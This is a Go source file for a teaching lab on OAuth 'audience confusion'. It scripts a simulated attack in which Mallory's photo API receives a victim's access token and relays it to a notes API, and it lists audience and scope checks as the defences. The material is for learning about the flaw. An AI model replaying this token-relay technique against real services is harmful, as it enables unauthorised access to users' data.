// Package audienceconfusion is lab 9: an API uses a token that it received at another API.
//
//	lab.go     the attack
//	README.md  the text for learners
package audienceconfusion

import (
	_ "embed"
	"errors"
	"net/http"
	"net/url"

	"quartet.example/demo/labs/lab"
	"quartet.example/demo/stack"
)

//go:embed README.md
var readme string

// Lab is the lab.
var Lab = lab.Lab{
	ID: "09", Slug: "audience-confusion", Title: "Audience confusion", Minutes: 12, README: readme,
	Specs:    []string{"RFC 8707", "RFC 9068 §4", "RFC 9700 §2.3"},
	Careless: lab.OnlyAPI, Configure: register,
	Attacks: []lab.Attack{{
		Title: "relays a token that her own API received", Run: relay, Stops: []string{"rs.aud", "rs.scope"},
	}},
}

// photos is the identifier of the attacker's API, and album a client that uses both APIs.
func photos(s *lab.Scene) string { return s.Evil.URL + "/photos" }

func album(s *lab.Scene) lab.App {
	return lab.App{ID: "album", RedirectURI: s.Native.RedirectURI, Scope: "photos:read", PKCE: true}
}

// register adds both to the seed of the authorization server.
func register(s *lab.Scene, settings *stack.Settings) error {
	seed, err := lab.AddToSeed(settings.Authserver.Seed, "resources", map[string]any{
		"resource": photos(s), "name": "Photos", "scopes": map[string]string{"photos:read": "see your photos"},
	})
	if err != nil {
		return err
	}
	settings.Authserver.Seed, err = lab.AddToSeed(seed, "clients", map[string]any{
		"client_id": "album", "client_name": "Album", "application_type": "native", "token_endpoint_auth_method": "none",
		"grant_types": []string{"authorization_code"}, "redirect_uris": []string{"http://127.0.0.1/callback"}, "scope": "photos:read notes:read",
	})
	return err
}

// relay sends a token for one API to another one.
func relay(s *lab.Scene) error {
	s.Step("Alice", "signs in at an album app, and allows it to see her photos")
	return use(s, url.Values{"resource": {photos(s)}})
}

// use lets the app of the victim call the API of the attacker, who then uses the token.
func use(s *lab.Scene, asked url.Values) error {
	tokens, err := s.SignInTo(album(s), s.Victim, asked)
	if err != nil {
		return err
	}
	s.Step("Alice", "looks at her photos: the app sends its access token to the photo API, which belongs to Mallory")
	if _, err := s.Call(s.VictimProgram, http.MethodGet, photos(s), "Bearer "+tokens.AccessToken, ""); err != nil {
		return err
	}
	token := s.Evil.BearerToken()
	if token == "" {
		return errors.New("the photo API received no token")
	}
	s.Step("Mallory", "sends the token that her API received to the notes API")
	_, err = s.ReadNotes(token)
	return err
}
